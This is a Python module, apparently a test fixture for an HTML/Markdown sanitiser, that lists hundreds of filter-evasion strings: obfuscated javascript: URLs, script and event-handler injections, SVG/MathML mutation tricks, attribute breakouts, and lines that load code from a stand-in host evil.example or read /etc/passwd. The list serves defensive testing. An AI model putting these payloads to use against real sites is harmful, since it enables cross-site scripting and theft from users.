"""Ways around filters of HTML that were tried in the field, in the order in which browsers came to allow them.

They are the shapes that lists of evasions teach (case, quotes, entities, control characters, odd elements, namespaces,
broken nesting), written for this project; as addresses, as markup, as Markdown. Each fits into a field of one line.
"""

ADDRESSES = (
    *("javascript:alert(1)", "JAVASCRIPT:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)"),
    *("javascript&#x3A;alert(1)", "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)"),
    *("java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#10;script:alert(1)"),
    *("java%0ascript:alert(1)", "javascript%3aalert(1)", "%6aavascript:alert(1)", "java\\script:alert(1)"),
    *("\\u006aavascript:alert(1)", "\\x6aavascript:alert(1)", "&#0000106avascript:alert(1)", "  javascript:alert(1)"),
    *("&#1;javascript:alert(1)", "&#x20;javascript:alert(1)", "javascript:/*--></title>*/alert(1)", "javascript://%0aalert(1)"),
    *("javascript://https://a.example/%0aalert(1)", "vbscript:msgbox(1)", "VbScRiPt:msgbox(1)", "livescript:alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    *("DATA:image/svg+xml,<svg onload=alert(1)>", "data:;base64,PHN2Zz4=", "data:text/javascript,alert(1)", "data:image/png;base64,AAAA"),
    *("blob:https://evil.example/1", "filesystem:https://evil.example/x", "file:///etc/passwd", "FILE://host/share"),
    *("view-source:javascript:alert(1)", "jar:https://evil.example!/x", "feed:javascript:alert(1)", "about:blank#x"),
    *("//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "///evil.example", "https:evil.example", "https:/evil.example"),
    *("https://good.example@evil.example/", "https://good.example%40evil.example/", "https://good.example:80:evil.example/"),
    *("https://evil.example\\@good.example/", "https://[::1]/", "https://[evil", "https://evil.example:99999/", "http://"),
    *("https://ev\u0456l.example/", "https://xn--/", "https://xn--a.example/", "https://evil.example/%00", "https://-a.example/"),
    *("https://a.example/?q=<script>alert(1)</script>", "https://a.example/#<img src=x onerror=alert(1)>", 'https://a.example/"onmouseover="alert(1)'),
    *("https://a.example/'onmouseover='alert(1)", "https://a.example/`", "https://a.example/{{7*7}}", "mailto:a@b?bcc=c%0d%0aX: y"),
    *("mailto:a%22onload=alert(1)@b", "tel:1", "intent://x#Intent;end", "ms-word:ofe|u|https://evil.example/x", "x-apple:1", "#x", "?x", "."),
)  # fmt: skip
"""Addresses; only https, http and mailto may come through, and never with what stands behind them unescaped."""

MARKUP = (
    *("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=//evil.example>", "<script\t>alert(1)</script\t>", "<script/xss>alert(1)</script>"),
    *("<<script>alert(1)//<</script>", "<script>alert(1)", "<script <b>alert(1)</script>", "<sCrIpT>alert`1`</sCrIpT>"),
    *("<script type=module>import 'https://evil.example/x'</script>", "<script type=importmap>{}</script>", "<script>/*", "*/alert(1)</script>"),
    *("<img src=x:x onerror=alert(1)>", "<img src='x' onerror='alert(1)'>", '<IMG """><SCRIPT>alert(1)</SCRIPT>">', "<img src=`javascript:alert(1)`>"),
    *("<img/src=x/onerror=alert(1)>", "<img src onerror=alert(1)//", "<img src=x onerror\n=alert(1)>", "<img onerror='alert(1)'src=x", "<img srcset='//evil.example/x 1x'>"),
    *("<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<input type=image src=x onerror=alert(1)>", "<image src=x onerror=alert(1)>"),
    *("<svg><script>alert(1)</script></svg>", "<svg><script href=//evil.example/x></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>"),
    *("<svg><set onbegin=alert(1)>", "<svg><use href=data:image/svg+xml,x#x>", "<svg><foreignObject><iframe/src=javascript:alert(1)>"),
    *("<svg><style>*{background:url(//evil.example)}</style>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]>", "<svg><title><img src=x onerror=alert(1)></title>"),
    *("<math href=javascript:alert(1)>x</math>", "<math><mi xlink:href=javascript:alert(1)>x", "<math><annotation-xml encoding=text/html><script>alert(1)</script>"),
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>"),
    *("<body onload=alert(1)>", "<body background=javascript:alert(1)>", "<html manifest=//evil.example/x>", "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>"),
    *("<iframe src=javascript:alert(1)>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "<embed src=javascript:alert(1)>", "<object data=javascript:alert(1)>"),
    *("<object type=text/html data=//evil.example>", "<applet code=x>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.example>", "<portal src=//evil.example>"),
    *("<link rel=import href=//evil.example>", "<link rel=prefetch href=//evil.example>", "<link rel=stylesheet href=javascript:alert(1)>", "<link rel=manifest href=x>"),
    *("<meta http-equiv=refresh content='0;javascript:alert(1)'>", "<meta http-equiv=Set-Cookie content=a=b>", "<meta http-equiv=Content-Security-Policy content=x>", "<meta name=referrer content=unsafe-url>"),
    *("<base href=javascript:/a/>", "<base target=x>", "<style>@im\\port'\\ja\\vasc\\ript:alert(1)'</style>", "<style>body{-moz-binding:url(//evil.example/x)}</style>"),
    *("<div style='width:expression(alert(1))'>", "<div style=background:url(javascript:alert(1))>", "<x style=behavior:url(x)>", "<p style=position:fixed;inset:0>"),
    *("<table background=javascript:alert(1)>", "<td background=javascript:alert(1)>", "<marquee onstart=alert(1)>", "<xss onclick=alert(1)>x", "<x onpointerenter=alert(1)>"),
    *("<video><source onerror=alert(1)>", "<video poster=javascript:alert(1)>", "<audio src onerror=alert(1)>", "<track src=//evil.example>", "<select autofocus onfocus=alert(1)>"),
    *("<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<form><button formaction=javascript:alert(1)>x", "<form id=x></form><button form=x formaction=//evil.example>"),
    *("<input onfocus=alert(1) autofocus>", "<isindex type=image src=1 onerror=alert(1)>", "<a ping=//evil.example href=#x>x</a>", "<a href='&#106avascript:alert(1)'>x</a>"),
    *("<a id=x><a id=x name=y>", "<form name=document><input name=cookie>", "<img name=currentScript>", "<a target=_blank href=//evil.example>x", "<dialog open onclose=alert(1)>"),
    *("<template shadowrootmode=open><script>alert(1)</script></template>", "<slot onslotchange=alert(1)>", "<x is=y onload=alert(1)>", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>"),
    *("<plaintext>", "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>", "<listing>", "<title><!--", "<!--", "-->", "<!", "<?", "</", "<", "</p/x>", "<%", "%>", "<![endif]-->"),
    *("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- --!><img src=x onerror=alert(1)>", "<!-- -- --><script>alert(1)</script>", "<!ENTITY x 'y'>", "<?php echo 1 ?>", "<?import x?>"),
    *("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "&#x3C;script&#x3E;", "&LT;script&GT;", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;"),
    *("\\74script\\76", "\\u{3c}script\\u{3e}", "\u02bascript\u02ba", "\uff1cimg src=x onerror=alert(1)\uff1e", "\u226e", "<\u0338script>", "‹script›", "«script»"),
    *('";alert(1);//', "';alert(1);//", "\\';alert(1);//", "</script><!--", "-alert(1)-", "'-alert(1)-'", '"-alert(1)-"', "${alert(1)}", "`${alert(1)}`", "}}alert(1){{", "]]>"),
    *('x" autofocus onfocus=alert(1) x="', "x' onclick=alert(1) x='", "x onclick=alert(1)", 'x">', "x'>", "x/>", "x`>", 'x" style="x', 'x"><!--', 'x" xmlns="', "x\\", "x\\\"", "x&quot;>"),
)  # fmt: skip
"""Markup, and what leaves an attribute, a script or a comment."""

MARKDOWN = (
    *("[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](java\\script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))"),
    *("[x]( javascript:alert(1) 'y')", "[x](https://a.example '\" onmouseover=\"alert(1)')", "[x](https://a.example \"'><script>alert(1)</script>\")", "[x](https://a.example/\"onclick=\"alert(1))"),
    *("![x](javascript:alert(1))", "![\"onerror=alert(1)](x)", "![x](https://evil.example/x.png)", "![x](x 'y\"z')", "[![x](x)](javascript:alert(1))", "[x][y] [y]: javascript:alert(1)"),
    *("<javascript:alert(1)>", "<https://a.example/\"onclick=alert(1)>", "<https://a.example/'><script>alert(1)</script>", "<a@b.example\"onclick=x>", "<data:text/html,x>", "<vbscript:x>"),
    *("`<script>alert(1)</script>`", "``` \"><script>alert(1)</script>", "~~~ html onload=alert(1)", "```<img src=x onerror=alert(1)>", "*<script>*alert(1)*</script>*", "**\"onclick=alert(1)**"),
    *("[[<script>alert(1)</script>]]", "[[x|<script>alert(1)</script>]]", "[[x|\" onclick=\"alert(1)]]", "[[javascript:alert(1)]]", "[[../../etc/passwd]]", "[[x|]]", "[[|x]]", "[[x|y|z]]", "[[[x]]]", "[[x\\|y]]"),
    *("[@<script>alert(1)</script>]", "[@x, <script>alert(1)</script>]", "[@x, \" onclick=\"alert(1)]", "[@x; @y; @z]", "[@]", "[@x,]", "[@x, [y]]", "[@x;;@y]", "[@x](javascript:alert(1))", "^[<script>]", "[^x]", "[^x]: <script>"),
    *("^[^[^[x]]]", "^[[[x]] [@y]]", "[^1]: [^1]", "# <script>alert(1)</script> {#x onclick=alert(1)}", "{onclick=alert(1)}", "x{.y #z}", "| <script> | \n|-|", "|\"onclick=x|", "- [x](x)\n- [ ] x"),
    *("&#0;", "&#xD800;", "&#x110000;", "&#x202e;x", "&ZeroWidthSpace;x", "&NewLine;x", "&nbsp;&shy;x", "&#8238;x&#8237;", "&lbrace;&lbrace;7*7&rbrace;&rbrace;", "&bsol;&lt;script&gt;", "\\<script\\>", "\\[x\\](javascript:x)"),
)  # fmt: skip
"""The same through Markdown, and through what bodies have besides."""

EVASIONS = ADDRESSES + MARKUP + MARKDOWN
